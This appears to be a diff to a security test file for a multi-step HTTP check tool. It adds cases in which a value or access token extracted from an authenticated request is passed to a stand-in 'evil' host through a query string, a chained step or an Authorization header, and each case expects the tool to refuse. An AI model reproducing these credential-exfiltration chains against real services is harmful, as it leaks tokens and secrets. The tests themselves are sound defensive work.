@@ -96,6 +96,33 @@ export const attacks: Readonly<Record<string, Attack>> = {
         (request.method === 'POST' ? answerJson({ access_token: TOKEN }) : redirectTo(evil))(request, response),
     ends: 'passed',
   },
+  'an answer that repeats it': {
+    steps: ({ good, evil }) => ({
+      1: httpStep('a', good, { authentication: KEY, extractors: [{ name: 'x', type: 'BODY' }] }),
+      2: httpStep('b', `${evil}/?a=\${x}`),
+    }),
+    answer: () => (request, response) => response.end(JSON.stringify(request.headers)),
+    ends: notAllowed,
+  },
+  'an answer that repeats a part of it, by way of another step': {
+    steps: ({ good, evil }) => ({
+      1: httpStep('a', good, { authentication: KEY, extractors: [{ name: 'x', type: 'BODY', regex: 'value.of' }] }),
+      2: httpStep('b', `${good}/?a=\${x}`, { extractors: [{ name: 'y', type: 'BODY' }] }),
+      3: httpStep('c', evil, { headers: { 'X-A': '${y}' } }),
+    }),
+    answer: () => (request, response) => response.end(`${request.path} ${JSON.stringify(request.headers)}`),
+    ends: notAllowed,
+  },
+  'what was obtained with it': {
+    steps: ({ good, evil }) => ({
+      1: httpStep('a', good, {
+        authentication: KEY,
+        extractors: [{ name: 'x', type: 'BODY', path: '$.access_token' }],
+      }),
+      2: httpStep('b', evil, { headers: { Authorization: 'Bearer ${x}' } }),
+    }),
+    ends: notAllowed,
+  },
   'a host that an answer gives': {
     steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', '${x}/path', { authentication: KEY }) }),
     options: unbound,
